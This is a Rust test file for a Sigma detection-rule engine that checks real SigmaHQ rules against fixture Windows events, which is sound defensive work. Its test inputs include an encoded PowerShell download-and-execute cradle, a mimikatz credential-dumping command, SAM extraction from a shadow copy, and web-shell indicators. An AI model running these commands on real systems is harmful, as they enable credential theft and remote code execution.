//! Every value modifier and condition form, each with a real SigmaHQ rule (copied to
//! `fixtures/sigma/rules/`, DRL 1.1, authors in each file) against a real event read from a
//! regression EVTX through cb-events, and a near miss that must not match.
//!
//! Where no regression event matches the rule as it stands, the real event is *edited* in the
//! one field the rule tests (said at each test). Modifiers the bundle never uses (`cased`,
//! `exists`, `lt`/`lte`/`gt`/`gte`, `neq`, `utf16*`, `re` flags `m`/`s`, `1 of them`,
//! `all of them`) are tested on a real rule with one line rewritten, shown in the test.

mod common;

use cb_domain::EventRecord;
use cb_sigma::{Placeholders, RuleSet, RuleText, Selection};
use common::*;
use serde_json::Value;

fn rule_text(file: &str) -> String {
    std::fs::read_to_string(repo().join("fixtures/sigma/rules").join(file)).expect(file)
}

/// One rule compiled from `text` (must compile).
fn compile(text: &str, sel: &Selection) -> RuleSet {
    let (set, report) = RuleSet::from_texts(
        [RuleText {
            file: "test.yml".into(),
            text,
        }],
        sel,
    );
    assert_eq!(report.loaded, 1, "{report:?}");
    set
}

fn rule(file: &str) -> RuleSet {
    compile(&rule_text(file), &Selection::all())
}

/// The event with this EventRecordID in the case's EVTX.
fn event(case: &str, record: u64) -> EventRecord {
    let dir = repo().join("fixtures/sigma/regression").join(case);
    let evtx = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|x| x == "evtx"))
        .expect("evtx");
    read_evtx(&evtx)
        .into_iter()
        .find(|e| e.fields["EventRecordID"].as_u64() == Some(record))
        .expect("record")
}

fn with(ev: &EventRecord, field: &str, v: &str) -> EventRecord {
    let mut e = ev.clone();
    e.fields.insert(field.into(), Value::String(v.into()));
    e
}

fn without(ev: &EventRecord, field: &str) -> EventRecord {
    let mut e = ev.clone();
    assert!(e.fields.remove(field).is_some(), "{field} in the event");
    e
}

fn hits(set: &RuleSet, ev: &EventRecord) -> bool {
    !set.matches(ev).is_empty()
}

fn text_of<'a>(ev: &'a EventRecord, field: &str) -> &'a str {
    ev.fields[field].as_str().unwrap()
}

const PFX: &str = "rules/windows/process_creation/proc_creation_win_certutil_export_pfx.yml";
const PFX_CASE: &str = "rules/windows/process_creation/proc_creation_win_certutil_export_pfx";
const WSASS: &str = "rules/windows/process_creation/proc_creation_win_hktl_wsass.yml";
const WSASS_CASE: &str = "rules/windows/process_creation/proc_creation_win_hktl_wsass";
const MEMDUMP: &str = "rules/windows/process_access/proc_access_win_lsass_memdump.yml";
const DBG_CASE: &str = "rules/windows/process_access/proc_access_win_susp_dbgcore_dbghelp_load";
const CVE: &str = "rules-emerging-threats/2025/Exploits/CVE-2025-53770/proc_creation_win_exploit_cve_2025_53770_indicators.yml";

fn certutil() -> EventRecord {
    event(PFX_CASE, 11818106)
}

#[test]
fn contains_endswith_and_null() {
    // selection: TargetObject|contains + |endswith; filter_main_details_null: Details: null
    let set = rule("rules/windows/registry/registry_set/registry_set_susp_user_shell_folders.yml");
    let ev = event(
        "rules/windows/registry/registry_set/registry_set_susp_user_shell_folders",
        74886,
    );
    assert!(hits(&set, &ev));
    let t = text_of(&ev, "TargetObject").to_string();
    // case-insensitive by default
    assert!(hits(&set, &with(&ev, "TargetObject", &t.to_uppercase())));
    assert!(
        !hits(&set, &with(&ev, "TargetObject", &format!("{t}x"))),
        "endswith"
    );
    assert!(
        !hits(
            &set,
            &with(
                &ev,
                "TargetObject",
                &t.replace("User Shell Folders", "User Shell")
            )
        ),
        "contains"
    );
    // null: without Details the null filter holds and the rule stays quiet
    assert!(!hits(&set, &without(&ev, "Details")));
}

#[test]
fn windash() {
    let set = rule(PFX);
    let ev = certutil();
    let cmd = text_of(&ev, "CommandLine").to_string();
    assert!(cmd.contains("-exportPFX"));
    assert!(hits(&set, &ev));
    for dash in ["/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        let c = cmd.replace("-exportPFX", &format!("{dash}exportPFX"));
        assert!(hits(&set, &with(&ev, "CommandLine", &c)), "{dash}");
    }
    let c = cmd.replace("-exportPFX", "+exportPFX");
    assert!(!hits(&set, &with(&ev, "CommandLine", &c)));
}

#[test]
fn startswith_fieldref_and_not_1_of() {
    // all of selection_* and not 1 of filter_main_* (ProcessName|startswith,
    // SubjectUserName|fieldref: TargetUserName)
    let set =
        rule("rules/windows/builtin/security/win_security_explicit_credential_local_logon.yml");
    let ev = event(
        "rules/windows/builtin/security/win_security_explicit_credential_local_logon",
        34382,
    );
    assert!(hits(&set, &ev));
    let subject = text_of(&ev, "SubjectUserName").to_string();
    assert!(
        !hits(&set, &with(&ev, "TargetUserName", &subject)),
        "fieldref"
    );
    assert!(
        !hits(&set, &with(&ev, "TargetUserName", &subject.to_uppercase())),
        "fieldref is case-insensitive"
    );
    assert!(
        !hits(
            &set,
            &with(&ev, "ProcessName", r"C:\Windows\System32\svchost.exe")
        ),
        "startswith filter"
    );
}

#[test]
fn all_modifier_and_not_filters() {
    let set = rule(MEMDUMP);
    let ev = event(DBG_CASE, 676404);
    assert!(hits(&set, &ev));
    // filter_optional_thor: CallTrace|contains|all — every value, not just one
    let one = format!(
        "{}|C:\\Windows\\Temp\\asgard2-agent\\x",
        text_of(&ev, "CallTrace")
    );
    assert!(hits(&set, &with(&ev, "CallTrace", &one)));
    let every = format!("{one}\\thor\\thor64.exe+1|UNKNOWN(1)");
    let thor = with(&with(&ev, "CallTrace", &every), "GrantedAccess", "0x103800");
    assert!(!hits(&set, &thor));
    // selection is a map: TargetImage must hold too
    assert!(!hits(
        &set,
        &with(&ev, "TargetImage", r"C:\Windows\System32\notepad.exe")
    ));
}

#[test]
fn re_and_1_of_selection() {
    // 1 of selection_*: Image|endswith, Hashes|contains, CommandLine|re with (?i)
    let set = rule(WSASS);
    let ev = event(WSASS_CASE, 676334);
    assert!(hits(&set, &ev));
    let other = with(
        &with(&ev, "Image", r"C:\Users\Public\tool.exe"),
        "Hashes",
        "SHA1=00",
    );
    assert!(hits(&set, &other), "the regular expression alone");
    let cmd = text_of(&ev, "CommandLine").replace("860", "pid");
    assert!(!hits(&set, &with(&other, "CommandLine", &cmd)));
}

#[test]
fn re_with_i_flag() {
    // edited real event: a copy out of C:\Windows\System32 (selection_target uses |re|i)
    let set = rule("rules/windows/process_creation/proc_creation_win_susp_copy_system_dir.yml");
    let ev = with(&certutil(), "Image", r"C:\Windows\System32\cmd.exe");
    let copy = with(
        &ev,
        "CommandLine",
        r"cmd /c copy C:\WINDOWS\SYSTEM32\calc.exe C:\Temp\c.exe",
    );
    assert!(hits(&set, &copy));
    let lower = with(
        &ev,
        "CommandLine",
        r"cmd /c copy c:\windows\system32\calc.exe C:\Temp\c.exe",
    );
    assert!(hits(&set, &lower), "i flag");
    let miss = with(
        &ev,
        "CommandLine",
        r"cmd /c copy C:\Temp\a.exe C:\Temp\c.exe",
    );
    assert!(!hits(&set, &miss));
}

#[test]
fn re_flags_m_and_s() {
    // hktl_wsass with its regular expression rewritten (the bundle uses no m/s flag)
    let base = rule_text(WSASS);
    let line = base
        .lines()
        .find(|l| l.contains("CommandLine|re:"))
        .unwrap()
        .to_string();
    let ev = with(&event(WSASS_CASE, 676334), "Image", r"C:\x\tool.exe");
    let ev = with(&ev, "Hashes", "SHA1=00");
    let two_lines = with(&ev, "CommandLine", "WSASS.exe\nWerFaultSecure.exe 860");
    let s = compile(
        &base.replace(&line, "        CommandLine|re|s: 'WSASS\\.exe.WerFault'"),
        &Selection::all(),
    );
    let no_s = compile(
        &base.replace(&line, "        CommandLine|re: 'WSASS\\.exe.WerFault'"),
        &Selection::all(),
    );
    assert!(hits(&s, &two_lines) && !hits(&no_s, &two_lines));
    let m = compile(
        &base.replace(&line, "        CommandLine|re|m: '^WerFault'"),
        &Selection::all(),
    );
    let no_m = compile(
        &base.replace(&line, "        CommandLine|re: '^WerFault'"),
        &Selection::all(),
    );
    assert!(hits(&m, &two_lines) && !hits(&no_m, &two_lines));
}

#[test]
fn base64offset() {
    // edited real event: PowerShell with IEX (New-Object …) in Base64 (encoded by Python's
    // base64 module, not by us)
    let set = rule("rules/windows/process_creation/proc_creation_win_powershell_base64_iex.yml");
    let ev = certutil();
    let iex = "powershell -NoProfile JHc9MTtJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMC4wLjAuNS9hJyk=";
    let write = "powershell -NoProfile JHc9MTtXcml0ZSAoTmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50KS5Eb3dubG9hZFN0cmluZygnaHR0cDovLzEwLjAuMC41L2EnKQ==";
    assert!(hits(&set, &with(&ev, "CommandLine", iex)));
    assert!(!hits(&set, &with(&ev, "CommandLine", write)));
}

/// The CVE-2025-53770 rule's parent: w3wp.exe.
fn w3wp_child(cmd: &str) -> EventRecord {
    with(
        &with(
            &certutil(),
            "ParentImage",
            r"c:\windows\system32\inetsrv\w3wp.exe",
        ),
        "CommandLine",
        cmd,
    )
}

// Python: base64.b64encode('copy x C:\\inetpub\\spinstall0.aspx'.encode('utf-16-le'))
const WIDE_B64: &str =
    "YwBvAHAAeQAgAHgAIABDADoAXABpAG4AZQB0AHAAdQBiAFwAcwBwAGkAbgBzAHQAYQBsAGwAMAAuAGEAcwBwAHgA";
// the same with spinstall1.aspx
const WIDE_B64_MISS: &str =
    "YwBvAHAAeQAgAHgAIABDADoAXABpAG4AZQB0AHAAdQBiAFwAcwBwAGkAbgBzAHQAYQBsAGwAMQAuAGEAcwBwAHgA";

#[test]
fn wide_base64offset_base64_and_parentheses() {
    // (selection_img and 1 of selection_encoded_*) or selection_ioc
    let set = rule(CVE);
    let wide = format!("powershell -e {WIDE_B64}");
    assert!(hits(&set, &w3wp_child(&wide)), "wide|base64offset|contains");
    assert!(!hits(
        &set,
        &w3wp_child(&format!("powershell -e {WIDE_B64_MISS}"))
    ));
    // Python: base64.b64encode(b'spinstall0.aspx is here')
    let plain = "cmd /c c3BpbnN0YWxsMC5hc3B4IGlzIGhlcmU=";
    assert!(hits(&set, &w3wp_child(plain)), "base64|contains");
    let not_iis = with(
        &w3wp_child(&wide),
        "ParentImage",
        r"C:\Windows\explorer.exe",
    );
    assert!(!hits(&set, &not_iis), "selection_img and (…)");
    let ioc = with(
        &not_iis,
        "CommandLine",
        r"copy a TEMPLATE\LAYOUTS\spinstall0.aspx",
    );
    assert!(hits(&set, &ioc), "… or selection_ioc");
}

#[test]
fn utf16_variants() {
    // the CVE rule with `wide` rewritten as utf16le / utf16be / utf16 (BOM)
    let base = rule_text(CVE);
    let le = compile(&base.replace("|wide|", "|utf16le|"), &Selection::all());
    assert!(hits(&le, &w3wp_child(&format!("powershell -e {WIDE_B64}"))));
    // Python: base64.b64encode('copy x C:\\inetpub\\spinstall0.aspx'.encode('utf-16-be'))
    let be_b64 =
        "AGMAbwBwAHkAIAB4ACAAQwA6AFwAaQBuAGUAdABwAHUAYgBcAHMAcABpAG4AcwB0AGEAbABsADAALgBhAHMAcAB4";
    let be = compile(&base.replace("|wide|", "|utf16be|"), &Selection::all());
    assert!(hits(&be, &w3wp_child(&format!("x {be_b64}"))));
    // … with spinstall1.aspx
    let be_miss =
        "AGMAbwBwAHkAIAB4ACAAQwA6AFwAaQBuAGUAdABwAHUAYgBcAHMAcABpAG4AcwB0AGEAbABsADEALgBhAHMAcAB4";
    assert!(!hits(&be, &w3wp_child(&format!("x {be_miss}"))));
    // Python: base64.b64encode(b'\xff\xfe' + 'spinstall0.aspx'.encode('utf-16-le'))
    let bom_b64 = "//5zAHAAaQBuAHMAdABhAGwAbAAwAC4AYQBzAHAAeAA=";
    let bom = compile(&base.replace("|wide|", "|utf16|"), &Selection::all());
    assert!(hits(&bom, &w3wp_child(&format!("x {bom_b64}"))));
}

#[test]
fn cidr() {
    // edited real Security event (the 4648 above, as a 4624 RDP logon): public vs private
    let set = rule(
        "rules/windows/builtin/security/account_management/win_security_successful_external_remote_rdp_login.yml",
    );
    let ev = event(
        "rules/windows/builtin/security/win_security_explicit_credential_local_logon",
        34382,
    );
    let mut logon = ev.clone();
    logon.fields.insert("EventID".into(), 4624.into());
    logon.event_id = Some("4624".into());
    logon.fields.insert("LogonType".into(), 10.into());
    assert!(hits(&set, &with(&logon, "IpAddress", "203.0.113.7")));
    assert!(!hits(&set, &with(&logon, "IpAddress", "10.20.30.40")));
    assert!(!hits(&set, &with(&logon, "IpAddress", "fe80::1")));
    assert!(!hits(&set, &with(&logon, "IpAddress", "-")));
}

#[test]
fn expand_needs_its_placeholder() {
    let text = rule_text(
        "rules-emerging-threats/2026/Exploits/CVE-2026-54121/win_security_adcs_certighost_cdc_chase_request.yml",
    );
    let (_, report) = RuleSet::from_texts(
        [RuleText {
            file: "certighost.yml".into(),
            text: &text,
        }],
        &Selection::all(),
    );
    assert_eq!(report.loaded, 0);
    assert_eq!(report.failed[0].file, "certighost.yml");
    assert!(
        report.failed[0].reason.contains("%known_cdcs%"),
        "{report:?}"
    );
    let mut sel = Selection::all();
    sel.placeholders = Placeholders::from([(
        "known_cdcs".to_string(),
        vec!["dc01.corp.example".to_string()],
    )]);
    let set = compile(&text, &sel);
    // edited real Security event as a 4886 certificate request
    let mut ev = event(
        "rules/windows/builtin/security/win_security_explicit_credential_local_logon",
        34382,
    );
    ev.fields.insert("EventID".into(), 4886.into());
    ev.event_id = Some("4886".into());
    assert!(hits(&set, &with(&ev, "Attributes", "cdc:rogue.example")));
    assert!(!hits(
        &set,
        &with(&ev, "Attributes", "cdc:dc01.corp.example")
    ));
}

#[test]
fn keywords_without_fields() {
    // keywords (a list of values, no field) and not filter (EventID: 15); edited real event
    let set = rule("rules/windows/builtin/win_alert_mimikatz_keywords.yml");
    let ev = certutil();
    let cmd = "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit";
    assert!(hits(&set, &with(&ev, "CommandLine", cmd)));
    assert!(hits(&set, &with(&ev, "CurrentDirectory", cmd)), "any field");
    assert!(!hits(
        &set,
        &with(&ev, "CommandLine", "mimikatz.exe coffee exit")
    ));
    let mut fifteen = with(&ev, "CommandLine", cmd);
    fifteen.fields.insert("EventID".into(), 15.into());
    assert!(!hits(&set, &fifteen));
}

#[test]
fn wildcards_and_escapes() {
    // `whoami*>`: a star inside the value
    let set = rule("rules/windows/process_creation/proc_creation_win_whoami_output.yml");
    let ev = certutil();
    assert!(hits(
        &set,
        &with(&ev, "CommandLine", "cmd /c whoami /all > C:\\x.txt")
    ));
    assert!(!hits(&set, &with(&ev, "CommandLine", "cmd /c whoami /all")));
    // '\\\\\?\\GLOBALROOT…': escaped backslashes and an escaped (literal) question mark
    let set = rule("rules/windows/process_creation/proc_creation_win_cmd_shadowcopy_access.yml");
    let shadow = r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\x";
    assert!(hits(&set, &with(&ev, "CommandLine", shadow)));
    let not_literal = shadow.replace(r"\\?\", r"\\x\");
    assert!(
        !hits(&set, &with(&ev, "CommandLine", &not_literal)),
        "\\? is a plain ?"
    );
}

#[test]
fn endswith_list_or_map_and_all_of() {
    // all of selection_*: selection_img is a list of maps (OR), selection_cli a list (OR)
    let set = rule(
        "rules/windows/process_creation/proc_creation_win_findstr_security_keyword_lookup.yml",
    );
    let ev = event(
        "rules/windows/process_creation/proc_creation_win_findstr_security_keyword_lookup",
        9145443,
    );
    assert!(hits(&set, &ev));
    // Image no longer findstr, but OriginalFileName still says FINDSTR.EXE: list of maps = OR
    let renamed = with(&ev, "Image", r"C:\Users\Public\f.exe");
    assert_eq!(
        hits(&set, &renamed),
        text_of(&ev, "OriginalFileName").eq_ignore_ascii_case("findstr.exe")
    );
    let other_word = with(&ev, "CommandLine", "findstr  apple");
    assert!(!hits(&set, &other_word), "all of selection_*");
}

#[test]
fn one_of_selection_pattern() {
    // selection_parent and 1 of selection_child_*: real, unedited
    let set = rule("rules-emerging-threats/2025/Malware/Shai-Hulud/proc_creation_win_mal_shai_hulud_malicious_node_bun_execution.yml");
    let case = "rules-emerging-threats/2025/Malware/Shai-Hulud/proc_creation_win_mal_shai_hulud_malicious_node_bun_execution";
    assert!(hits(&set, &event(case, 2459542)));
    // same parent, a cmd.exe child of the same capture: the child selection does not hold
    assert!(!hits(&set, &event(case, 2455038)));
}

#[test]
fn one_of_them_and_all_of_them() {
    // hktl_wsass with its condition rewritten
    let base = rule_text(WSASS);
    let ev = event(WSASS_CASE, 676334);
    let one = compile(
        &base.replace("condition: 1 of selection_*", "condition: 1 of them"),
        &Selection::all(),
    );
    let all = compile(
        &base.replace("condition: 1 of selection_*", "condition: all of them"),
        &Selection::all(),
    );
    let img_only = with(&ev, "CommandLine", "WSASS.exe");
    assert!(hits(&one, &img_only));
    let every = with(
        &img_only,
        "Hashes",
        "IMPHASH=32F5095C9BBDCACF28FD4060EB4DFC42",
    );
    let every = with(&every, "CommandLine", text_of(&ev, "CommandLine"));
    assert!(hits(&all, &every));
    assert!(!hits(&all, &img_only));
}

#[test]
fn cased_exists_numeric_and_neq() {
    // lsass_memdump with one line rewritten per modifier
    let base = rule_text(MEMDUMP);
    let line = "        TargetImage|endswith: '\\lsass.exe'";
    assert!(base.contains(line));
    let ev = event(DBG_CASE, 676404);
    let upper = with(&ev, "TargetImage", r"C:\WINDOWS\system32\LSASS.EXE");
    let plain = compile(&base, &Selection::all());
    assert!(hits(&plain, &ev) && hits(&plain, &upper));
    let cased = compile(
        &base.replace(line, "        TargetImage|endswith|cased: '\\lsass.exe'"),
        &Selection::all(),
    );
    assert!(hits(&cased, &ev) && !hits(&cased, &upper));
    let add = |extra: &str| {
        compile(
            &base.replace(line, &format!("{line}\n        {extra}")),
            &Selection::all(),
        )
    };
    let exists = add("SourceThreadId|exists: true");
    assert!(hits(&exists, &ev) && !hits(&exists, &without(&ev, "SourceThreadId")));
    let absent = add("SourceThreadId|exists: false");
    assert!(!hits(&absent, &ev) && hits(&absent, &without(&ev, "SourceThreadId")));
    let pid = ev.fields["TargetProcessId"].as_u64().unwrap();
    let num = |m: &str, v: u64| add(&format!("TargetProcessId|{m}: {v}"));
    assert!(hits(&num("gt", pid - 1), &ev) && !hits(&num("gt", pid), &ev));
    assert!(hits(&num("gte", pid), &ev) && !hits(&num("gte", pid + 1), &ev));
    assert!(hits(&num("lt", pid + 1), &ev) && !hits(&num("lt", pid), &ev));
    assert!(hits(&num("lte", pid), &ev) && !hits(&num("lte", pid - 1), &ev));
    let neq = add(&format!("TargetProcessId|neq: {pid}"));
    assert!(!hits(&neq, &ev));
    let mut other = ev.clone();
    other
        .fields
        .insert("TargetProcessId".into(), (pid + 1).into());
    assert!(hits(&neq, &other));
}

#[test]
fn security_4688_reads_as_process_creation() {
    // the certutil Sysmon 1 event restated as Security 4688 field names
    let set = rule(PFX);
    let sys = certutil();
    let mut sec = EventRecord {
        source: "SecurityEvent".into(),
        channel: "Security".into(),
        event_id: Some("4688".into()),
        ..Default::default()
    };
    for (k, v) in [
        ("EventID", Value::from(4688)),
        ("Channel", "Security".into()),
        ("NewProcessName", sys.fields["Image"].clone()),
        ("CommandLine", sys.fields["CommandLine"].clone()),
        ("ParentProcessName", sys.fields["ParentImage"].clone()),
    ] {
        sec.fields.insert(k.into(), v);
    }
    assert!(hits(&set, &sec));
    let mut other = sec.clone();
    other.event_id = Some("4689".into());
    assert!(!hits(&set, &other), "another Security event id");
}

#[test]
fn unsupported_constructs_are_reported_not_fatal() {
    let good = rule_text(PFX);
    let bad_mod = good.replace(
        "CommandLine|contains|windash",
        "CommandLine|contains|frobnicate",
    );
    let bad_cond = good.replace(
        "condition: all of selection_*",
        "condition: selection_img | count() > 3",
    );
    let bad_re = rule_text(WSASS).replace("CommandLine|re: ", "CommandLine|re: (?<=x)");
    let (set, report) = RuleSet::from_texts(
        [
            RuleText {
                file: "bad_mod.yml".into(),
                text: &bad_mod,
            },
            RuleText {
                file: "good.yml".into(),
                text: &good,
            },
            RuleText {
                file: "bad_cond.yml".into(),
                text: &bad_cond,
            },
            RuleText {
                file: "bad_re.yml".into(),
                text: &bad_re,
            },
            RuleText {
                file: "not_yaml.yml".into(),
                text: "title: [unclosed",
            },
        ],
        &Selection::all(),
    );
    assert_eq!(report.loaded, 1);
    assert_eq!(set.len(), 1);
    let files: Vec<&str> = report.failed.iter().map(|f| f.file.as_str()).collect();
    assert_eq!(
        files,
        ["bad_mod.yml", "bad_cond.yml", "bad_re.yml", "not_yaml.yml"]
    );
    assert!(report.failed[0].reason.contains("frobnicate"));
    assert!(report.failed[1].reason.contains("aggregation"));
    assert!(report.failed[2].reason.contains("regular expression"));
    assert!(hits(&set, &certutil()));
}

#[test]
fn default_selection_is_stable_and_test_medium_and_up() {
    let text = rule_text(PFX);
    assert!(text.contains("status: test") && text.contains("level: medium"));
    let exp = text.replace("status: test", "status: experimental");
    let low = text.replace("level: medium", "level: low");
    let (_, report) = RuleSet::from_texts(
        [
            RuleText {
                file: "a.yml".into(),
                text: &text,
            },
            RuleText {
                file: "b.yml".into(),
                text: &exp,
            },
            RuleText {
                file: "c.yml".into(),
                text: &low,
            },
        ],
        &Selection::default(),
    );
    assert_eq!((report.loaded, report.not_selected), (1, 2));
}

#[test]
fn service_rules_are_indexed_by_the_event_ids_their_condition_needs() {
    // all of selection_* with selection_eid: EventID 4648: other Security events never meet it
    let set =
        rule("rules/windows/builtin/security/win_security_explicit_credential_local_logon.yml");
    let ev = event(
        "rules/windows/builtin/security/win_security_explicit_credential_local_logon",
        34382,
    );
    assert!(set.may_match(&ev) && hits(&set, &ev));
    let mut other = ev.clone();
    other.event_id = Some("4624".into());
    other.fields.insert("EventID".into(), 4624.into());
    assert!(!set.may_match(&other));
}
